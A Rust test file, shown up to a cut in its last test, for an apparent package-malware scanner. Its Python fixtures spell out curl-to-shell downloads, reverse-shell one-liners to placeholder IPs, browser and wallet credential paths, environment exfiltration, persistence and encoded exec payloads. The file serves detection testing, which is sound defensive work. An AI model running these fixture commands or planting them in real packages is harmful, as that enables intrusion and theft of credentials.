//! Fixtures for every rule: one that fires and one honest look-alike that stays quiet. All
//! fixtures are tiny look-alikes written for these tests; nothing here is real malware.

use cordon_diagnostics::Severity;

use super::codec::encode_b64;
use super::*;
use crate::model::{Artifact, ArtifactKind, Behaviour, Evidence, Member, MemberRole};

fn member(path: &str, data: &[u8]) -> Member {
    Member::new(path.to_owned(), data.to_vec(), 0)
}

fn artifact(kind: ArtifactKind, path: &str, files: &[(&str, &str)]) -> Artifact {
    Artifact {
        path: path.to_owned(),
        kind,
        name: Some("demo".into()),
        version: Some("1.0".into()),
        members: files.iter().map(|(p, d)| member(p, d.as_bytes())).collect(),
        reading: Vec::new(),
    }
}

fn sdist(files: &[(&str, &str)]) -> Artifact {
    artifact(ArtifactKind::Sdist, "demo-1.0.tar.gz", files)
}

fn scan(files: &[(&str, &str)]) -> Vec<Evidence> {
    run(&sdist(files))
}

fn has(ev: &[Evidence], rule: &str, b: Behaviour) -> bool {
    ev.iter().any(|e| e.rule == rule && e.behaviour == b)
}

fn has_at_least(ev: &[Evidence], rule: &str, b: Behaviour, sev: Severity) -> bool {
    ev.iter()
        .any(|e| e.rule == rule && e.behaviour == b && e.severity >= sev)
}

fn of_rule<'e>(ev: &'e [Evidence], rule: &str) -> Vec<&'e Evidence> {
    ev.iter().filter(|e| e.rule == rule).collect()
}

fn dump(ev: &[Evidence]) -> String {
    ev.iter()
        .map(|e| {
            format!(
                "{} {:?} {:?} {}:{}:{} {}",
                e.rule,
                e.behaviour,
                e.severity,
                e.member.as_deref().unwrap_or("-"),
                e.line.unwrap_or(0),
                e.column.unwrap_or(0),
                e.message
            )
        })
        .collect::<Vec<_>>()
        .join("\n")
}

const HONEST_SETUP: &str = r#"
"""Setup for demo."""
import os
from setuptools import setup, find_packages

here = os.path.abspath(os.path.dirname(__file__))
with open(os.path.join(here, "README.md"), encoding="utf-8") as f:
    long_description = f.read()

VERSION = "1.0"

setup(
    name="demo",
    version=VERSION,
    packages=find_packages(exclude=["tests"]),
    long_description=long_description,
    install_requires=["requests>=2"],
)
"#;

// ---------------------------------------------------------------- roles

#[test]
fn rules_role_of_places_members() {
    let a = sdist(&[
        ("demo-1.0/setup.py", "from helper import x\n"),
        ("demo-1.0/helper.py", ""),
        ("demo-1.0/other.py", ""),
        ("demo-1.0/demo/__init__.py", ""),
        ("demo-1.0/demo/tests/test_a.py", ""),
        ("demo-1.0/docs/conf.py", ""),
        ("demo-1.0/demo/_vendor/six.py", ""),
        ("demo-1.0/PKG-INFO", ""),
        ("demo-1.0/demo.pth", ""),
        ("demo-1.0/sub/setup.py", ""),
        ("demo-1.0/conftest.py", ""),
        ("demo-1.0/data.bin", ""),
    ]);
    let role = |p: &str| {
        let m = a.members.iter().find(|m| m.path == p).unwrap();
        role_of(&a, m)
    };
    assert_eq!(role("demo-1.0/setup.py"), MemberRole::InstallTime);
    assert_eq!(role("demo-1.0/helper.py"), MemberRole::InstallTime);
    assert_eq!(role("demo-1.0/other.py"), MemberRole::Package);
    assert_eq!(role("demo-1.0/demo/__init__.py"), MemberRole::Package);
    assert_eq!(
        role("demo-1.0/demo/tests/test_a.py"),
        MemberRole::Peripheral
    );
    assert_eq!(role("demo-1.0/docs/conf.py"), MemberRole::Peripheral);
    assert_eq!(role("demo-1.0/demo/_vendor/six.py"), MemberRole::Vendored);
    assert_eq!(role("demo-1.0/PKG-INFO"), MemberRole::Metadata);
    assert_eq!(role("demo-1.0/demo.pth"), MemberRole::Pth);
    assert_eq!(role("demo-1.0/sub/setup.py"), MemberRole::Package);
    assert_eq!(role("demo-1.0/conftest.py"), MemberRole::Peripheral);
    assert_eq!(role("demo-1.0/data.bin"), MemberRole::Other);
}

// ---------------------------------------------------------------- install-hook

#[test]
fn rules_install_hook_fires_on_custom_install_and_top_level_code() {
    let ev = scan(&[(
        "demo-1.0/setup.py",
        r#"
import os
from setuptools import setup
from setuptools.command.install import install

class PostInstall(install):
    def run(self):
        install.run(self)
        os.system("echo installed > /tmp/marker")

os.makedirs("/tmp/x", exist_ok=True)
setup(name="demo", version="1.0", cmdclass={"install": PostInstall})
"#,
    )]);
    let hooks = of_rule(&ev, "install-hook");
    assert!(
        hooks
            .iter()
            .any(|e| e.severity == Severity::Low && e.message.contains("PostInstall")),
        "{}",
        dump(&ev)
    );
    assert!(
        hooks
            .iter()
            .any(|e| e.severity == Severity::Info && e.line == Some(11)),
        "{}",
        dump(&ev)
    );
}

#[test]
fn rules_install_hook_quiet_on_honest_setup() {
    let ev = scan(&[("demo-1.0/setup.py", HONEST_SETUP)]);
    assert!(ev.is_empty(), "{}", dump(&ev));
}

// ---------------------------------------------------------------- process-spawn

#[test]
fn rules_process_spawn_hidden_and_download() {
    let ev = scan(&[(
        "demo-1.0/demo/__init__.py",
        r#"
import subprocess, os
subprocess.Popen("powershell -WindowStyle Hidden -Command Get-Date", shell=False, creationflags=subprocess.CREATE_NO_WINDOW)
os.system("curl -s http://x.example/a.sh | sh")
"#,
    )]);
    assert!(
        has(&ev, "process-spawn", Behaviour::ProcessSpawn),
        "{}",
        dump(&ev)
    );
    assert!(
        has_at_least(
            &ev,
            "process-spawn",
            Behaviour::HiddenProcess,
            Severity::High
        ),
        "{}",
        dump(&ev)
    );
    assert!(
        has_at_least(&ev, "process-spawn", Behaviour::Download, Severity::High),
        "{}",
        dump(&ev)
    );
}

#[test]
fn rules_process_spawn_git_is_only_a_capability() {
    let ev = scan(&[(
        "demo-1.0/demo/vcs.py",
        "import subprocess\n\ndef test_status():\n    subprocess.run(['git', 'status'], check=True)\n",
    )]);
    assert!(
        has(&ev, "process-spawn", Behaviour::ProcessSpawn),
        "{}",
        dump(&ev)
    );
    assert!(
        !ev.iter()
            .any(|e| matches!(e.behaviour, Behaviour::HiddenProcess | Behaviour::Download)),
        "{}",
        dump(&ev)
    );
}

// ---------------------------------------------------------------- dynamic-exec

#[test]
fn rules_dynamic_exec_decode_chain_through_assignments() {
    let ev = scan(&[(
        "demo-1.0/demo/core.py",
        r#"
import base64, zlib
blob = "eJzLSM3JyVcozy/KSQEAGgQEXQ=="
code = zlib.decompress(base64.b64decode(blob))
exec(code)
"#,
    )]);
    assert!(
        has_at_least(&ev, "dynamic-exec", Behaviour::DecodeExec, Severity::High),
        "{}",
        dump(&ev)
    );
}

#[test]
fn rules_dynamic_exec_version_file_is_info() {
    let ev = scan(&[(
        "demo-1.0/demo/core.py",
        "exec(open('demo/_version.py').read())\nx = eval('1 + 1')\n",
    )]);
    assert!(
        !has(&ev, "dynamic-exec", Behaviour::DecodeExec),
        "{}",
        dump(&ev)
    );
    let de = of_rule(&ev, "dynamic-exec");
    assert!(
        de.iter().any(|e| e.severity == Severity::Info),
        "{}",
        dump(&ev)
    );
    assert!(
        de.iter().all(|e| e.severity <= Severity::Low),
        "{}",
        dump(&ev)
    );
}

// ---------------------------------------------------------------- decoded payloads

#[test]
fn rules_decoded_payload_is_rescanned() {
    let inner = "import os;os.system('curl http://1.2.3.4/x|sh')";
    let src = format!(
        "from base64 import b64decode\nexec(b64decode('{}'))\n",
        encode_b64(inner.as_bytes())
    );
    let ev = scan(&[("demo-1.0/setup.py", &src)]);
    assert!(
        has_at_least(&ev, "dynamic-exec", Behaviour::DecodeExec, Severity::High),
        "{}",
        dump(&ev)
    );
    let decoded: Vec<&Evidence> = ev
        .iter()
        .filter(|e| e.member.as_deref() == Some("demo-1.0/setup.py#decoded"))
        .collect();
    assert!(
        decoded.iter().any(|e| e.behaviour == Behaviour::Download),
        "{}",
        dump(&ev)
    );
    assert!(
        decoded
            .iter()
            .any(|e| e.behaviour == Behaviour::ExfilEndpoint),
        "{}",
        dump(&ev)
    );
    assert!(
        decoded
            .iter()
            .any(|e| e.behaviour == Behaviour::ProcessSpawn && e.line == Some(1)),
        "{}",
        dump(&ev)
    );
}

#[test]
fn rules_layered_base64_zlib_blob_is_decoded() {
    let program = "import socket\nimport os\n".to_owned()
        + &"# padding line to make the blob long enough\n".repeat(10)
        + "s = socket.socket()\ns.connect(('203.0.113.9', 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nimport pty\npty.spawn('/bin/sh')\n";
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    std::io::Write::write_all(&mut z, program.as_bytes()).unwrap();
    let z = z.finish().unwrap();
    let layer1 = encode_b64(&z);
    let layer2 = encode_b64(layer1.as_bytes());
    assert!(layer2.len() > 200);
    let src = format!("PAYLOAD = '{layer2}'\n");
    let ev = scan(&[("demo-1.0/demo/__init__.py", &src)]);
    assert!(
        has(&ev, "encoded-payload", Behaviour::Obfuscation),
        "{}",
        dump(&ev)
    );
    assert!(
        ev.iter().any(|e| e.behaviour == Behaviour::ReverseShell
            && e.member.as_deref().is_some_and(|m| m.ends_with("#decoded"))),
        "{}",
        dump(&ev)
    );
}

#[test]
fn rules_powershell_encoded_command_is_decoded() {
    let ps = "Invoke-WebRequest -Uri http://x.example/p.exe -OutFile $env:TEMP\\p.exe; Start-Process $env:TEMP\\p.exe";
    let utf16: Vec<u8> = ps.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let src = format!(
        "import subprocess\nsubprocess.Popen('powershell -NoP -EncodedCommand {}', shell=True)\n",
        encode_b64(&utf16)
    );
    let ev = scan(&[("demo-1.0/setup.py", &src)]);
    assert!(
        has(&ev, "process-spawn", Behaviour::HiddenProcess),
        "{}",
        dump(&ev)
    );
    assert!(
        has(&ev, "encoded-payload", Behaviour::Obfuscation),
        "{}",
        dump(&ev)
    );
    assert!(
        ev.iter().any(|e| e.behaviour == Behaviour::Download
            && e.member.as_deref().is_some_and(|m| m.contains("#decoded"))),
        "{}",
        dump(&ev)
    );
}

#[test]
fn rules_encoded_payload_quiet_on_image_blob() {
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut x: u32 = 7;
    for _ in 0..600 {
        x = x.wrapping_mul(1_103_515_245).wrapping_add(12345);
        png.push(x.to_be_bytes()[1]);
    }
    let src = format!("ICON = '{}'\n", encode_b64(&png));
    let ev = scan(&[("demo-1.0/demo/icons.py", &src)]);
    assert!(ev.is_empty(), "{}", dump(&ev));
}

#[test]
fn rules_huge_line_is_bounded() {
    let mut src = String::from("x = '");
    src.push_str(&"A".repeat(20 * 1024 * 1024));
    src.push_str("'\n");
    let start = std::time::Instant::now();
    let ev = scan(&[("demo-1.0/demo/big.py", &src)]);
    assert!(
        start.elapsed().as_secs() < 120,
        "took {:?}",
        start.elapsed()
    );
    assert!(
        ev.iter()
            .all(|e| e.snippet.as_ref().is_none_or(|s| s.chars().count() <= 200))
    );
}

#[test]
fn rules_deep_nesting_does_not_overflow() {
    let chain = format!("x = {}chr(97)\n", "chr(97)+".repeat(3000));
    let ev = scan(&[("demo-1.0/demo/deep.py", &chain)]);
    assert!(
        has(&ev, "obfuscation", Behaviour::Obfuscation),
        "{}",
        dump(&ev)
    );
    let deeper = format!("x = {}1\n", "1+".repeat(100_000));
    let _ = scan(&[("demo-1.0/demo/deeper.py", &deeper)]);
    let parens = format!("x = {}1{}\n", "(".repeat(5000), ")".repeat(5000));
    let _ = scan(&[("demo-1.0/demo/parens.py", &parens)]);
}

// ---------------------------------------------------------------- obfuscation

#[test]
fn rules_obfuscation_chr_list_and_padding() {
    let src = format!(
        "p = ''.join([chr(x) for x in [47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100]])\nprint('ok'){};__import__('builtins').exec('print(1)')\n",
        " ".repeat(200)
    );
    let ev = scan(&[("demo-1.0/demo/a.py", &src)]);
    let ob = of_rule(&ev, "obfuscation");
    assert!(
        ob.iter().any(|e| e.message.contains("/etc/passwd")),
        "{}",
        dump(&ev)
    );
    assert!(
        ob.iter().any(|e| e.message.contains("off-screen")),
        "{}",
        dump(&ev)
    );
    assert!(
        ob.iter().any(|e| e.message.contains("indirectly")),
        "{}",
        dump(&ev)
    );
    // The folded string is read by the string rules too.
    assert!(
        has(&ev, "credential-access", Behaviour::CredentialAccess),
        "{}",
        dump(&ev)
    );
}

#[test]
fn rules_obfuscation_quiet_on_alphabet_and_plain_import() {
    let ev = scan(&[(
        "demo-1.0/demo/a.py",
        "LETTERS = ''.join(chr(i) for i in range(65, 91))\nos_mod = __import__('os')\nlevel = getattr(logging, 'INFO')\n",
    )]);
    assert!(of_rule(&ev, "obfuscation").is_empty(), "{}", dump(&ev));
}

// ---------------------------------------------------------------- download

#[test]
fn rules_download_executable_to_disk() {
    let ev = scan(&[(
        "demo-1.0/demo/a.py",
        "import urllib.request\nurllib.request.urlretrieve('http://x.example/tool.exe', 'tool.exe')\n",
    )]);
    assert!(
        has_at_least(&ev, "download", Behaviour::Download, Severity::High),
        "{}",
        dump(&ev)
    );
}

#[test]
fn rules_download_runtime_pip_install() {
    let ev = scan(&[(
        "demo-1.0/setup.py",
        "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'git+https://x.example/r.git'])\n",
    )]);
    assert!(
        has_at_least(&ev, "download", Behaviour::Download, Severity::High),
        "{}",
        dump(&ev)
    );
}

#[test]
fn rules_download_quiet_on_api_get() {
    let ev = scan(&[(
        "demo-1.0/demo/client.py",
        "import requests\n\ndef fetch(api):\n    return requests.get(api, timeout=5).json()\n",
    )]);
    assert!(has(&ev, "network", Behaviour::Network), "{}", dump(&ev));
    assert!(
        !ev.iter().any(|e| e.behaviour != Behaviour::Network),
        "{}",
        dump(&ev)
    );
}

// ---------------------------------------------------------------- network

#[test]
fn rules_network_send() {
    let ev = scan(&[(
        "demo-1.0/demo/a.py",
        "import requests, socket\nrequests.post('http://x.example/c', data={'a': 1})\ns = socket.socket()\ns.sendall(b'x')\n",
    )]);
    assert!(has(&ev, "network", Behaviour::NetworkSend), "{}", dump(&ev));
    assert_eq!(
        of_rule(&ev, "network")
            .iter()
            .filter(|e| e.behaviour == Behaviour::NetworkSend)
            .count(),
        2,
        "{}",
        dump(&ev)
    );
}

#[test]
fn rules_network_quiet_without_clients() {
    let ev = scan(&[(
        "demo-1.0/demo/a.py",
        "import json\nprint(json.dumps({'a': 1}))\n",
    )]);
    assert!(ev.is_empty(), "{}", dump(&ev));
}

// ---------------------------------------------------------------- exfil-endpoint

#[test]
fn rules_exfil_endpoint_webhook_and_token() {
    let ev = scan(&[(
        "demo-1.0/demo/a.py",
        "HOOK = 'https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJ'\nTOKEN = '1234567890:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw1'\nURL = 'http://198.51.100.7/x'\nDROP = 'https://transfer.sh/abc'\n",
    )]);
    assert!(
        has_at_least(
            &ev,
            "exfil-endpoint",
            Behaviour::ExfilEndpoint,
            Severity::High
        ),
        "{}",
        dump(&ev)
    );
    assert!(
        of_rule(&ev, "exfil-endpoint")
            .iter()
            .any(|e| e.message.contains("Telegram bot token")),
        "{}",
        dump(&ev)
    );
    assert!(
        of_rule(&ev, "exfil-endpoint")
            .iter()
            .any(|e| e.message.contains("file-drop")),
        "{}",
        dump(&ev)
    );
}

#[test]
fn rules_exfil_endpoint_quiet_on_docs_and_loopback() {
    let ev = scan(&[(
        "demo-1.0/demo/a.py",
        "DOCS = 'https://docs.example.org/page'\nLOCAL = 'http://127.0.0.1:8000/api'\nBASE = 'https://discord.com/api/webhooks'\n",
    )]);
    assert!(
        of_rule(&ev, "exfil-endpoint")
            .iter()
            .all(|e| e.severity == Severity::Info),
        "{}",
        dump(&ev)
    );
}

// ---------------------------------------------------------------- credential-access

#[test]
fn rules_credential_access_browser_store() {
    let ev = scan(&[(
        "demo-1.0/demo/a.py",
        "import os\np = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\nw = os.path.join(os.getenv('APPDATA'), 'Exodus', 'exodus.wallet')\nd = os.path.join(os.getenv('APPDATA'), 'discord', 'Local Storage', 'leveldb')\n",
    )]);
    assert!(
        has_at_least(
            &ev,
            "credential-access",
            Behaviour::CredentialAccess,
            Severity::High
        ),
        "{}",
        dump(&ev)
    );
    assert!(
        of_rule(&ev, "credential-access")
            .iter()
            .any(|e| e.message.contains("kinds of stores")),
        "{}",
        dump(&ev)
    );
}

#[test]
fn rules_credential_access_quiet_on_comments_and_docstrings() {
    let ev = scan(&[(
        "demo-1.0/demo/a.py",
        "\"\"\"Keys live in ~/.ssh/id_rsa and ~/.aws/credentials.\"\"\"\n# Login Data is the browser store; see ~/.ssh/id_ed25519\nx = 1\n",
    )]);
    assert!(ev.is_empty(), "{}", dump(&ev));
}

#[test]
fn rules_credential_access_tool_config_is_context() {
    let ev = scan(&[(
        "demo-1.0/demo/a.py",
        "import os\nCREDS = os.path.expanduser('~/.aws/credentials')\n",
    )]);
    let ca = of_rule(&ev, "credential-access");
    assert!(
        !ca.is_empty() && ca.iter().all(|e| e.severity == Severity::Info),
        "{}",
        dump(&ev)
    );
}

// ---------------------------------------------------------------- env-dump

#[test]
fn rules_env_dump_serialized_and_copied_then_sent() {
    let ev = scan(&[(
        "demo-1.0/demo/a.py",
        "import os, json, requests, urllib.parse\nrequests.post('http://x.example', data=json.dumps(dict(os.environ)))\ndef f():\n    data = dict(os.environ)\n    body = urllib.parse.urlencode(data)\n    return body\n",
    )]);
    let ed = of_rule(&ev, "env-dump");
    assert!(
        ed.len() >= 2 && ed.iter().all(|e| e.severity == Severity::Medium),
        "{}",
        dump(&ev)
    );
}

#[test]
fn rules_env_dump_quiet_on_single_vars_and_child_env() {
    let ev = scan(&[(
        "demo-1.0/demo/a.py",
        "import os, subprocess\nhome = os.environ.get('HOME')\nx = os.environ['PATH']\nif 'CI' in os.environ:\n    pass\nsubprocess.run(['ls'], env=os.environ.copy())\nenv = os.environ.copy()\nenv['X'] = '1'\nsubprocess.run(['ls'], env=env)\n",
    )]);
    assert!(of_rule(&ev, "env-dump").is_empty(), "{}", dump(&ev));
}

// ---------------------------------------------------------------- recon

#[test]
fn rules_recon_host_facts_and_ip_lookup() {
    let ev = scan(&[(
        "demo-1.0/demo/a.py",
        "import getpass, socket, urllib.request\nu = getpass.getuser()\nh = socket.gethostname()\nip = urllib.request.urlopen('https://api.ipify.org').read()\n",
    )]);
    assert!(has(&ev, "recon", Behaviour::Recon), "{}", dump(&ev));
    assert!(
        has_at_least(&ev, "recon", Behaviour::Recon, Severity::Medium),
        "{}",
        dump(&ev)
    );
}

#[test]
fn rules_recon_quiet() {
    let ev = scan(&[(
        "demo-1.0/demo/a.py",
        "import os\ncwd = os.getcwd()\nprint(cwd)\n",
    )]);
    assert!(of_rule(&ev, "recon").is_empty(), "{}", dump(&ev));
}

// ---------------------------------------------------------------- persistence

#[test]
fn rules_persistence_writes_shell_rc_and_run_key() {
    let ev = scan(&[(
        "demo-1.0/demo/a.py",
        "import os, winreg, subprocess\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('python -m demo &\\n')\nkey = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, key, 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'demo', 0, winreg.REG_SZ, 'x.exe')\nsubprocess.run('schtasks /create /tn demo /tr x.exe /sc onlogon', shell=True)\n",
    )]);
    let p = of_rule(&ev, "persistence");
    assert!(
        p.iter().filter(|e| e.severity == Severity::High).count() >= 3,
        "{}",
        dump(&ev)
    );
}

#[test]
fn rules_persistence_mentions_are_context() {
    let ev = scan(&[(
        "demo-1.0/demo/cli.py",
        "\"\"\"Add `eval $(demo completion)` to your ~/.bashrc.\"\"\"\nprint('Add the completion line to your ~/.bashrc')\n",
    )]);
    assert!(
        of_rule(&ev, "persistence")
            .iter()
            .all(|e| e.severity == Severity::Info),
        "{}",
        dump(&ev)
    );
}

// ---------------------------------------------------------------- reverse-shell

#[test]
fn rules_reverse_shell_dup2() {
    let ev = scan(&[(
        "demo-1.0/demo/a.py",
        "import socket, os, pty\ndef go():\n    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n    s.connect(('10.0.0.5', 4444))\n    os.dup2(s.fileno(), 0)\n    os.dup2(s.fileno(), 1)\n    os.dup2(s.fileno(), 2)\n    pty.spawn('/bin/sh')\n",
    )]);
    assert!(
        has_at_least(
            &ev,
            "reverse-shell",
            Behaviour::ReverseShell,
            Severity::High
        ),
        "{}",
        dump(&ev)
    );
}

#[test]
fn rules_reverse_shell_one_liner_string() {
    let ev = scan(&[(
        "demo-1.0/demo/a.py",
        "CMD = 'bash -i >& /dev/tcp/10.0.0.5/4444 0>&1'\n",
    )]);
    assert!(
        has(&ev, "reverse-shell", Behaviour::ReverseShell),
        "{}",
        dump(&ev)
    );
}

#[test]
fn rules_reverse_shell_quiet_on_client() {
    let ev = scan(&[(
        "demo-1.0/demo/a.py",
        "import socket\ndef ping(host):\n    s = socket.create_connection((host, 80))\n    s.sendall(b'HEAD / HTTP/1.0\\r\\n\\r\\n')\n    return s.recv(100)\n",
    )]);
    assert!(of_rule(&ev, "reverse-shell").is_empty(), "{}", dump(&ev));
}

// ---------------------------------------------------------------- drop-executable

#[test]
fn rules_drop_executable_written_and_run() {
    let ev = scan(&[(
        "demo-1.0/demo/a.py",
        "import os, subprocess, tempfile, requests\ndef go():\n    p = os.path.join(tempfile.gettempdir(), 'upd.exe')\n    with open(p, 'wb') as f:\n        f.write(requests.get('http://x.example/u').content)\n    subprocess.Popen(p)\n",
    )]);
    assert!(
        has_at_least(
            &ev,
            "drop-executable",
            Behaviour::DropExecutable,
            Severity::High
        ),
        "{}",
        dump(&ev)
    );
    assert!(has(&ev, "download", Behaviour::Download), "{}", dump(&ev));
}

#[test]
fn rules_drop_executable_embedded_pe() {
    let src = "BIN = b'MZ\\x90\\x00\\x03\\x00\\x00\\x00\\x04\\x00\\x00\\x00\\xff\\xff\\x00\\x00' + b'\\x00' * 48 + b'This program cannot be run in DOS mode'\nDATA = b'MZ\\x90\\x00\\x03\\x00\\x00\\x00\\x04\\x00\\x00\\x00\\xff\\xff\\x00\\x00\\xb8\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x40\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x80\\x00\\x00\\x00This program cannot be run in DOS mode.'\n";
    let ev = scan(&[("demo-1.0/demo/a.py", src)]);
    assert!(
        has_at_least(
            &ev,
            "drop-executable",
            Behaviour::DropExecutable,
            Severity::High
        ),
        "{}",
        dump(&ev)
    );
}

#[test]
fn rules_drop_executable_quiet_on_text_output() {
    let ev = scan(&[(
        "demo-1.0/demo/a.py",
        "import subprocess\ndef report(lines):\n    with open('out.txt', 'w') as f:\n        f.write('\\n'.join(lines))\n    subprocess.run(['git', 'add', 'out.txt'])\n",
    )]);
    assert!(of_rule(&ev, "drop-executable").is_empty(), "{}", dump(&ev));
}

// ---------------------------------------------------------------- pth-exec

#[test]
fn rules_pth_exec_dangerous_line_is_scanned() {
    let inner = "import os;os.system('id')";
    let pth = format!(
        "/some/path\nimport base64;exec(base64.b64decode('{}'))\n",
        encode_b64(inner.as_bytes())
    );
    let ev = scan(&[("demo-1.0/demo.pth", &pth)]);
    assert!(
        has_at_least(&ev, "pth-exec", Behaviour::PthExec, Severity::High),
        "{}",
        dump(&ev)
    );
    assert!(
        has(&ev, "dynamic-exec", Behaviour::DecodeExec),
        "{}",
        dump(&ev)
    );
    let pe = of_rule(&ev, "pth-exec");
    assert_eq!(pe[0].line, Some(2), "{}", dump(&ev));
}

#[test]
fn rules_pth_exec_quiet_on_paths_and_low_on_editable_hook() {
    let ev = scan(&[("demo-1.0/paths.pth", "/opt/lib/python\n./src\n")]);
    assert!(ev.is_empty(), "{}", dump(&ev));
    let ev = scan(&[(
        "demo-1.0/__editable__.demo.pth",
        "import __editable___demo_finder; __editable___demo_finder.install()\n",
    )]);
    let pe = of_rule(&ev, "pth-exec");
    assert!(
        pe.len() == 1 && pe[0].severity == Severity::Low,
        "{}",
        dump(&ev)
    );
    assert!(ev.iter().all(|e| e.rule == "pth-exec"), "{}", dump(&ev));
}

// ---------------------------------------------------------------- embedded-binary

fn elf(e_type: u8) -> Vec<u8> {
    let mut v = b"\x7fELF\x02\x01\x01".to_vec();
    v.resize(16, 0);
    v.extend_from_slice(&[e_type, 0]);
    v.resize(64, 0);
    v
}

#[test]
fn rules_embedded_binary_in_pure_wheel() {
    let mut a = artifact(
        ArtifactKind::Wheel,
        "demo-1.0-py3-none-any.whl",
        &[("demo/__init__.py", "")],
    );
    a.members.push(member("demo/helper", &elf(2)));
    let ev = run(&a);
    assert!(
        has_at_least(
            &ev,
            "embedded-binary",
            Behaviour::EmbeddedBinary,
            Severity::Medium
        ),
        "{}",
        dump(&ev)
    );
}

#[test]
fn rules_embedded_binary_quiet_on_platform_extension() {
    let mut a = artifact(
        ArtifactKind::Wheel,
        "demo-1.0-cp312-cp312-manylinux_2_17_x86_64.whl",
        &[("demo/__init__.py", "")],
    );
    a.members.push(member(
        "demo/_speedups.cpython-312-x86_64-linux-gnu.so",
        &elf(3),
    ));
    let ev = run(&a);
    assert!(of_rule(&ev, "embedded-binary").is_empty(), "{}", dump(&ev));
}

// ---------------------------------------------------------------- metadata-mismatch

#[test]
fn rules_metadata_mismatch_version_and_setup_literal() {
    let ev = scan(&[
        (
            "demo-1.0/PKG-INFO",
            "Metadata-Version: 2.1\nName: demo\nVersion: 2.0\n\nbody\n",
        ),
        (
            "demo-1.0/setup.py",
            "from setuptools import setup\nsetup(name='demo', version='3.1')\n",
        ),
    ]);
    let mm = of_rule(&ev, "metadata-mismatch");
    assert!(
        mm.iter().any(|e| e.message.contains("version 2.0")),
        "{}",
        dump(&ev)
    );
    assert!(
        mm.iter()
            .any(|e| e.message.contains("setup.py says version 3.1")),
        "{}",
        dump(&ev)
    );
}

#[test]
fn rules_metadata_mismatch_quiet_on_loose_equal_versions() {
    let ev = scan(&[
        (
            "demo-1.0/PKG-INFO",
            "Metadata-Version: 2.1\nName: Demo\nVersion: 1.0.0\n\nbody\n",
        ),
        ("demo-1.0/setup.py", HONEST_SETUP),
    ]);
    assert!(
        of_rule(&ev, "metadata-mismatch").is_empty(),
        "{}",
        dump(&ev)
    );
}

#[test]
fn rules_metadata_mismatch_wheel_record() {
    let a = artifact(
        ArtifactKind::Wheel,
        "demo-1.0-py3-none-any.whl",
        &[
            ("demo/__init__.py", "x = 1\n"),
            ("demo/extra.py", ""),
            (
                "demo-1.0.dist-info/METADATA",
                "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
            ),
            (
                "demo-1.0.dist-info/RECORD",
                "demo/__init__.py,sha256=x,6\ndemo/gone.py,sha256=y,3\ndemo-1.0.dist-info/METADATA,,\ndemo-1.0.dist-info/RECORD,,\n",
            ),
        ],
    );
    let ev = run(&a);
    let mm = of_rule(&ev, "metadata-mismatch");
    assert!(
        mm.iter().any(|e| e.message.contains("demo/extra.py")),
        "{}",
        dump(&ev)
    );
    assert!(
        mm.iter().any(|e| e.message.contains("demo/gone.py")),
        "{}",
        dump(&ev)
    );
    assert!(
        !mm.iter().any(|e| e.message.contains("__init__")),
        "{}",
        dump(&ev)
    );
}

// ---------------------------------------------------------------- source-trick

#[test]
fn rules_source_trick_bidi_and_homoglyph() {
    let ev = scan(&[(
        "demo-1.0/demo/a.py",
        "access = 'user'\nif access != 'none\u{202E} \u{2066}# admin\u{2069} \u{2066}':\n    pass\nd\u{0430}ta = 1\n",
    )]);
    let st = of_rule(&ev, "source-trick");
    assert!(
        st.iter().any(|e| e.message.contains("bidirectional")),
        "{}",
        dump(&ev)
    );
    assert!(
        st.iter().any(|e| e.message.contains("look-alikes")),
        "{}",
        dump(&ev)
    );
}

#[test]
fn rules_source_trick_quiet_on_greek_math() {
    let ev = scan(&[("demo-1.0/demo/a.py", "σ = 1.0\nΔt = 0.5\nname = 'café'\n")]);
    assert!(of_rule(&ev, "source-trick").is_empty(), "{}", dump(&ev));
}

// ---------------------------------------------------------------- evasion

#[test]
fn rules_evasion_sdist_guard() {
    let ev = scan(&[(
        "demo-1.0/setup.py",
        "import sys, os\nfrom setuptools import setup\nsetup(name='demo')\nif 'sdist' not in sys.argv:\n    if os.name == 'nt':\n        exec(open('x').read())\n",
    )]);
    assert!(has(&ev, "evasion", Behaviour::Evasion), "{}", dump(&ev));
}

#[test]
fn rules_evasion_quiet_on_honest_guard() {
    let ev = scan(&[(
        "demo-1.0/setup.py",
        "import sys\nfrom setuptools import setup\nif 'sdist' in sys.argv:\n    print('building the source distribution')\nsetup(name='demo')\n",
    )]);
    assert!(of_rule(&ev, "evasion").is_empty(), "{}", dump(&ev));
}

// ---------------------------------------------------------------- shapes seen in the wild

#[test]
fn rules_helper_functions_and_lambdas_are_folded() {
    let ev = scan(&[(
        "demo-1.0/setup.py",
        r#"
import base64, os, subprocess
def unpack(s):
    raw = s.encode("ascii")
    return base64.b64decode(raw).decode("ascii")
tool = lambda: ''.join([chr(x) for x in [99, 117, 114, 108]])
os.system(unpack("Y3VybCAtcyBodHRwOi8veC5leGFtcGxlL2kuc2ggfCBiYXNo"))
subprocess.run(f"{tool()} -s http://x.example/m.sh | sh", shell=True)
"#,
    )]);
    let dl: Vec<&Evidence> = ev
        .iter()
        .filter(|e| e.rule == "process-spawn" && e.behaviour == Behaviour::Download)
        .collect();
    assert_eq!(dl.len(), 2, "{}", dump(&ev));
}

#[test]
fn rules_function_name_built_by_eval_is_resolved() {
    let ev = scan(&[(
        "demo-1.0/setup.py",
